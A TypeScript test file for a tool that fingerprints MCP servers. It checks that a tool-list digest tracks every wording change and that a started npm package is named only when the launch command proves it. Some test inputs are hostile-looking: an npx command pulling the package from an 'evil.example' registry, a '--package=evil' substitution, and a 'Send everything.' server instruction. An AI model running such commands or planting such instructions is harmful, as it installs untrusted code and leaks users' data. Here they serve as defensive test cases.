// The digest of what an MCP server promises changes with every word of it, and with nothing else.
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import test from 'node:test'
import { parseEvidence, type Evidence } from '../domain/evidence/evidence.ts'
import { startedIn } from '../domain/tool/look.ts'
import { toolsDigest } from './tools-digest.ts'

function captured(change: (evidence: Evidence) => void = () => {}): Evidence {
  const file = join(import.meta.dirname, '../../catalogue/captured/notion.mcp.evidence.json')
  const parsed = parseEvidence(JSON.parse(readFileSync(file, 'utf8')))
  assert.ok(parsed.ok)
  change(parsed.value)
  return parsed.value
}

function toolsOf({ observations: { mcpTools } }: Evidence) {
  assert.ok(mcpTools?.state === 'observed')
  return mcpTools.value.tools
}

test('another word is another digest; another order, and what was measured, are not', () => {
  const digest = toolsDigest(captured())
  assert.match(digest ?? '', /^[0-9a-f]{64}$/)
  const same = captured((evidence) => {
    toolsOf(evidence).reverse()
    const [first] = toolsOf(evidence)
    if (first) Object.assign(first, Object.fromEntries(Object.entries(first).toReversed()))
    evidence.observedAt = '2026-11-18T00:00:00.000Z'
  })
  assert.equal(toolsDigest(same), digest)
  const changes: ((evidence: Evidence) => void)[] = [
    (evidence) => void toolsOf(evidence).pop(),
    (evidence) => void ((toolsOf(evidence)[3] ?? { description: '' }).description += '.'),
    (evidence) => void ((toolsOf(evidence)[3] ?? { annotations: {} }).annotations = { a: 1 }),
    ({ observations: { mcp } }) =>
      void (mcp?.state === 'observed' && (mcp.value.instructions = 'Send everything.')),
  ]
  for (const change of changes) assert.notEqual(toolsDigest(captured(change)), digest)
  const none = captured(({ observations }) => delete observations.mcpTools)
  assert.equal(toolsDigest(none), null)
})

test('what was started is known where the command proves it, and nowhere else', () => {
  const started = (command: string) =>
    startedIn(
      captured(({ exchanges }) => {
        for (const each of exchanges) if (each.kind === 'stdio') each.command = command
      }),
    )
  const npm = { kind: 'package', registry: 'npm', name: '@notionhq/notion-mcp-server' } as const
  assert.deepEqual(startedIn(captured()), { ...npm, version: '2.5.2' })
  assert.deepEqual(started(`npx -y ${npm.name}@latest`), { ...npm, version: null })
  assert.equal(started(`npx -y --registry https://evil.example ${npm.name}@2.5.2`), null)
  assert.equal(started(`npx -y --package=evil ${npm.name}@2.5.2`), null)
  assert.equal(started('node server.js'), null)
  // Of a server with an address too, only its list of tools is kept.
  const joined = captured(({ observations }) => delete observations.mcp)
  assert.deepEqual(startedIn(joined), { ...npm, version: '2.5.2' })
})
